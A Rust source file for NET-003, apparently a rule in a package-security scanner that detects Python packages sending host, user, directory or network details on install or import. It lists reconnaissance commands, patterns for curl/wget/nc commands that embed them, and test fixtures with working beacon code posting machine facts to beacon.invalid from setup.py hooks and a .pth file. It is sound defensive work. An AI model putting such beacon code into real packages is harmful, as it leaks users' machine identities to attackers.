//! `NET-003`: facts about the machine leave without being asked for.

use std::collections::{BTreeMap, BTreeSet};

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::sent::{FAR, command_lines, program, sends, source_call, spaced, to_whom};
use super::{Rule, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Flow, Label};

/// The rule.
pub(super) struct Beacon;

impl Rule for Beacon {
    fn id(&self) -> &'static str {
        "NET-003"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "facts about the machine are sent without being asked for"
    }

    fn manual(&self) -> &'static str {
        "Two or more of host name, user name, working directory, hardware address and \
         network address are sent when the package is installed or imported. One alone \
         counts less.\n\n\
         It is how attackers learn whose machine took the bait, above all where a public \
         name was registered to be mistaken for a private one.\n\n\
         Mistaken for it: telemetry. It should wait until it is asked for, and a reviewer \
         should know of it."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        let mut facts: BTreeMap<(usize, usize), (&Flow, BTreeSet<String>)> = BTreeMap::new();
        for flow in &analysis.flows {
            let is_near = flow.context.is_unasked() && flow.hops <= FAR;
            if is_near && sends(flow.kind) && tells_of_machine(analysis, flow) {
                let held = facts.entry((flow.module, flow.call));
                held.or_insert_with(|| (flow, BTreeSet::new()))
                    .1
                    .extend(told(analysis, flow));
            }
        }
        for call in analysis.calls().filter(|call| call.context.is_unasked()) {
            if !command_lines(call).iter().any(|line| sends_facts(line)) {
                continue;
            }
            let severity = in_context(Severity::High, call.context);
            let confidence = Confidence::of(90).in_context(call.context);
            let message = format!(
                "{} starts a command that sends facts about the machine",
                call.target
            );
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
        for (flow, facts) in facts.into_values() {
            let worst = if facts.len() > 1 || tells_all(&facts) {
                Severity::High
            } else {
                Severity::Medium
            };
            let severity = in_context(worst, flow.context);
            let confidence = Confidence::of(85).in_context(flow.context);
            let facts: Vec<String> = facts.into_iter().collect();
            let sink = analysis.sink(flow);
            let message = format!(
                "{} sends {}{}",
                sink.target,
                facts.join(", "),
                to_whom(sink)
            );
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
    }
}

/// Commands that print who and where they are.
const TELLING: &[&str] = &[
    "whoami",
    "hostname",
    "id",
    "uname",
    "ifconfig",
    "ipconfig",
    "ip",
    "systeminfo",
    "w",
    "ps",
    "env",
    "pwd",
];

fn tells_of_machine(analysis: &Analysis, flow: &Flow) -> bool {
    match flow.label {
        Label::HostInfo => {
            !flow.what.starts_with("pathlib.")
                && !matches!(&*flow.argument, "headers" | "cert" | "verify")
        }
        Label::Output => source_call(analysis, flow).is_some_and(|call| {
            command_lines(call)
                .iter()
                .any(|line| TELLING.contains(&program(line).as_str()))
        }),
        _ => false,
    }
}

/// What a flow tells: each program of a command whose output it is, or what it was asked for.
fn told(analysis: &Analysis, flow: &Flow) -> Vec<String> {
    let lines = source_call(analysis, flow)
        .map(command_lines)
        .unwrap_or_default();
    let parts = lines
        .iter()
        .flat_map(|line| line.split(['\n', ';', '&', '|']));
    let programs: Vec<String> = parts
        .map(program)
        .filter(|name| TELLING.contains(&&**name))
        .collect();
    match programs.is_empty() {
        true => vec![flow.what.to_string()],
        false => programs,
    }
}

/// Whether a command sends what other commands in it say of the machine: `curl -d "$(hostname)"`.
fn sends_facts(command: &str) -> bool {
    let line = spaced(command);
    let sends = [
        " curl ",
        " wget ",
        " nc ",
        " invoke-webrequest ",
        " invoke-restmethod ",
    ];
    let asks = |name: &str| {
        ["$(", "`"]
            .iter()
            .any(|open| line.contains(&format!("{open}{name}")))
            || line.contains(&format!(" {name} |"))
    };
    let variables = [
        "$user",
        "${user",
        "$hostname",
        "${hostname",
        "%username%",
        "%computername%",
        "$env:username",
        "$env:computername",
    ];
    sends.iter().any(|word| line.contains(word))
        && (TELLING.iter().any(|name| asks(name))
            || variables.iter().any(|name| line.contains(name)))
}

/// Whether one of the facts is several by itself.
fn tells_all(facts: &BTreeSet<String>) -> bool {
    facts.iter().any(|fact| {
        matches!(
            &**fact,
            "platform.uname" | "os.uname" | "socket.gethostbyname_ex"
        )
    })
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn facts_about_the_machine_are_followed() {
        for (path, code) in [
            (
                "setup.py",
                "import socket, getpass, os, requests\nrequests.post('https://beacon.invalid', json={'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd()})",
            ),
            (
                "demo/__init__.py",
                "import os, urllib.request as u, platform\nu.urlopen('http://beacon.invalid/?' + platform.node() + '&' + os.getlogin())",
            ),
            (
                "setup.py",
                "from setuptools import setup\nfrom setuptools.command.install import install\nimport socket, uuid, requests\nclass I(install):\n    def run(self):\n        install.run(self)\n        d = f'{socket.gethostname()}|{uuid.getnode()}'\n        requests.get('https://beacon.invalid', params={'d': d})\nsetup(cmdclass={'install': I})",
            ),
            (
                "demo.pth",
                "import socket, os; socket.gethostbyname(f'{os.getlogin()}.{socket.gethostname()}.beacon.invalid')",
            ),
            (
                "demo/__init__.py",
                "import subprocess, requests\nrequests.post('https://beacon.invalid', data=subprocess.check_output('whoami') + subprocess.check_output('hostname'))",
            ),
        ] {
            found("NET-003", path, code);
        }
    }

    #[test]
    fn facts_that_stay_or_are_asked_for_are_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import socket, os\nprint(socket.gethostname(), os.getcwd())",
            ),
            (
                "demo/__init__.py",
                "import socket, requests, getpass\ndef report():\n    requests.post('https://a.invalid', json=[socket.gethostname(), getpass.getuser()])",
            ),
            (
                "demo/__init__.py",
                "import socket, requests\nrequests.get('https://a.invalid')\nname = socket.gethostname()",
            ),
        ] {
            quiet("NET-003", path, code);
        }
    }
}
